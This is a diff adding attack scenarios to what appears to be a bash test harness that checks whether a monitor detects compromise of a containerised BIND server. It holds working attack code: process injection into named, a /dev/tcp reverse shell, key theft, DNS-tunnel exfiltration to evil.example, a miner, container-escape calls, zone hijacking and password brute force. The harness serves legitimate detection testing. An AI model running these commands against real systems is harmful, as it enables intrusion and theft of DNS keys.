@@ -408,3 +408,180 @@ rare_stale_answers() {
 	rndc serve-stale status
 	provider_start
 }
+
+# ---- attacks ----
+
+# named_shell COMMANDS: a shell that code inside named starts.
+named_shell() {
+	inject_pid "${container_pid[bind]}" "call (int) system(\"${1//$'\n'/ }\")"
+}
+
+attack_code_shell() {
+	harm exec /usr/bin/dash
+	harm exec /usr/bin/id
+	harm read /etc/bind/update.key
+	harm write /tmp/out
+	named_shell 'id >/tmp/out; cat /etc/bind/update.key >>/tmp/out'
+	grep -q uid=105 "$(image_path bind /tmp/out)" && grep -q secondary "$(image_path bind /tmp/out)"
+}
+
+attack_reverse_shell() {
+	harm exec /usr/bin/bash
+	harm connect "$peer_address:4444"
+	harm exec /usr/bin/id
+	thief_shell 'id; cat /etc/bind/rndc.key; ls -la /var/lib/bind/keys; exit'
+	named_shell "bash -c 'exec bash -i >/dev/tcp/$peer_address/4444 2>&1 <&1'"
+	thief_got uid=105
+}
+
+# Code inside named sends the keys of its clients away; no program is started.
+attack_code_connect() {
+	harm read /etc/bind/update.key
+	harm connect "$peer_address:4444"
+	thief_begin
+	code_steal bind named /etc/bind/update.key
+	thief_got secondary
+}
+
+# Machine code in memory that becomes executable.
+attack_code_machine() {
+	harm call mprotect
+	code_machine bind named | grep '= 42'
+}
+
+# A library that code inside named loads: it sends the key of the administrator.
+attack_library_loaded() {
+	harm write /tmp/.cache.so
+	harm mapx /tmp/.cache.so
+	harm read /etc/bind/rndc.key
+	harm connect "$peer_address:4444"
+	thief_begin
+	preload_library "$(image_path bind /tmp/library)" /etc/bind/rndc.key
+	inject_pid "${container_pid[bind]}" 'call (int) system("cat /tmp/library >/tmp/.cache.so")' \
+		'print (void *) dlopen("/tmp/.cache.so", 2)'
+	thief_got rndc-key
+}
+
+attack_miner() {
+	mining_begin /tmp/.kworkerd
+	named_shell "$mining_command"
+	pool_got
+}
+
+attack_scan() {
+	harm exec /usr/bin/bash
+	harm connect "$peer_address:22"
+	# shellcheck disable=SC2016 # the container's shell
+	named_shell "bash -c 'for p in 21 22 23 25 53 80 443 3306 5302 5432 6379 8080 {9000..9100}; do
+		(exec 3<>/dev/tcp/$peer_address/\$p) && echo \$p; done >/tmp/open 2>/dev/null'"
+	grep -qx 5302 "$(image_path bind /tmp/open)"
+}
+
+# Ways out of a container, each tried by code inside named.
+attack_escape() {
+	harm call mount
+	harm call unshare
+	harm call setns
+	harm call mknodat
+	harm call ptrace
+	inject_pid "${container_pid[bind]}" 'print (int) mount("none", "/mnt", "tmpfs", 0, 0)' \
+		'print (int) unshare(0x10000000)' 'print (int) setns(0, 0)' \
+		'print (int) mknod("/tmp/disk", 0060600, 0x800)' 'print (long) ptrace(16, 2, 0, 0)' \
+		'print (int) open("/proc/sys/kernel/core_pattern", 1)' \
+		'print (int) open("/sys/fs/cgroup/release_agent", 1)' | grep -q = &&
+		alive "${container_pid[bind]}"
+}
+
+# A bank's zone of the thief's, by the administrator's own tool.
+attack_zone_added() {
+	harm exec /usr/sbin/rndc
+	harm write /var/lib/bind/bank.zone
+	harm read /etc/bind/rndc.key
+	{ zone_head 60 && echo 'www A 10.88.66.6'; } >"$(image_path bind /tmp/bank)"
+	echo 'rndc addzone bank.example "{ type primary; file \"/var/lib/bind/bank.zone\"; };"' \
+		>"$(image_path bind /tmp/commands)"
+	# named answers only once the debugger has left it.
+	named_shell 'cat /tmp/bank >/var/lib/bind/bank.zone; (sleep 2; sh /tmp/commands) >/dev/null 2>&1 &'
+	until_true 20 bank_is_the_thiefs
+}
+
+bank_is_the_thiefs() {
+	[ "$(ask_name www.bank.example +short)" = 10.88.66.6 ]
+}
+
+# Names carry the private key of a zone to the thief's name server.
+attack_dns_tunnel() {
+	harm read '/var/lib/bind/keys/Koffice.example.*.private'
+	harm exec /usr/bin/od
+	harm exec /usr/bin/host
+	peer_start thief dnsmasq --keep-in-foreground --no-daemon --conf-file=/dev/null --no-resolv --no-hosts \
+		--port=6666 --listen-address="$peer_address" --bind-interfaces --user=root --pid-file= \
+		--address=/evil.example/10.88.66.6 --log-queries --log-facility=-
+	# shellcheck disable=SC2016 # the container's shell
+	echo 'for x in $(cat /var/lib/bind/keys/Koffice.example.*.private | head -c 64 | od -An -v -tx1 -w16 | tr -d " ")
+do host -W 2 -p 6666 $x.evil.example '"$peer_address"'; done' >"$(image_path bind /tmp/commands)"
+	named_shell 'sh /tmp/commands'
+	thief_got "$(printf 'Private-key' | od -An -tx1 | tr -d ' \n').*evil.example"
+}
+
+# The secret of one key is a word.
+attack_brute_force() {
+	local p
+	harm write /var/lib/bind/services.example.zone.jnl
+	for p in 123456 password qwerty letmein dragon monkey {1..20} football iloveyou master summer sunshine; do
+		! update "$(key_of acme "$p")" 'update add _acme-challenge.www.services.example 60 TXT "thief"' || break
+	done
+	ask_name _acme-challenge.www.services.example TXT +short | grep thief
+}
+
+# ---- adaptive: known calls, files and peers only ----
+
+# Every zone as a whole and all that changed in them, by an address that may have them.
+adaptive_zones_transferred() {
+	local zone
+	harm read '/var/lib/bind/*.jnl'
+	for zone in office services machines; do
+		ask_name "$zone.example" AXFR
+		ask_name "$zone.example" IXFR=100
+	done | grep -c 'IN.*A.*10\.88\.' | grep -E '^[0-9]{2,}$'
+	ask_name 88.10.in-addr.arpa AXFR | grep -c PTR
+}
+
+# By one who may change the zone of machines: all of them are the thief's.
+adaptive_records_tampered() {
+	local n commands='zone machines.example'
+	harm write /var/lib/bind/machines.example.zone.jnl
+	for n in $(seq 40); do
+		commands+="\nupdate delete machine$n.machines.example A\nupdate add machine$n.machines.example 60 A 10.88.66.6"
+	done
+	update '' "$commands"
+	[ "$(ask_name machine7.machines.example machine31.machines.example +short | grep -c 10.88.66.6)" = 2 ]
+}
+
+# A machine of the office carries data away as names, which named asks of the provider.
+adaptive_client_tunnel() {
+	local names
+	harm send "$peer_address:5353"
+	mapfile -t names < <(seq 3000 | sha512sum | fold -w 2 | head -n 60 | sed 's/ *-*$/secret.up.world.example/')
+	ask_name "${names[@]}" +short >/dev/null
+	ask_name "$(printf stolen-data | od -An -tx1 | tr -d ' \n').up.world.example" >/dev/null
+	until_true 10 grep -q "$(printf stolen-data | od -An -tx1 | tr -d ' \n').up.world.example" "$stage/peer-provider.log"
+}
+
+# Code inside named reads its keys and sends them, as a name, to its own provider.
+adaptive_dns_exfiltration() {
+	harm read /etc/bind/update.key
+	harm send "$peer_address:5353"
+	# A socket of its own: named makes one for each question, too.
+	# shellcheck disable=SC2016 # of gdb
+	inject_pid "${container_pid[bind]}" 'set $buffer = (char *) calloc(1, 512)' \
+		'set $fd = (int) open("/etc/bind/update.key", 0)' 'set $n = (long) read($fd, $buffer + 13, 60)' \
+		'call (int) close($fd)' 'set $s = (int) socket(2, 2, 0)' 'set $address = (char *) calloc(1, 16)' \
+		'set *(short *) $address = 2' 'set *(unsigned short *) ($address + 2) = (unsigned short) 0xe914' \
+		'set *(unsigned int *) ($address + 4) = (unsigned int) 0x0100580a' \
+		'set *(char *) ($buffer + 2) = 1' 'set *(char *) ($buffer + 5) = 1' 'set *(char *) ($buffer + 12) = 60' \
+		'call (void *) memcpy($buffer + 73, "\005world\007example\000\000\001\000\001", 19)' \
+		'print (long) syscall(44, $s, $buffer, 92, 0, $address, 16)' 'call (int) close($s)' |
+		grep -cE '= 92$'
+	until_true 10 grep -q 'query.*secondary' "$stage/peer-provider.log"
+}
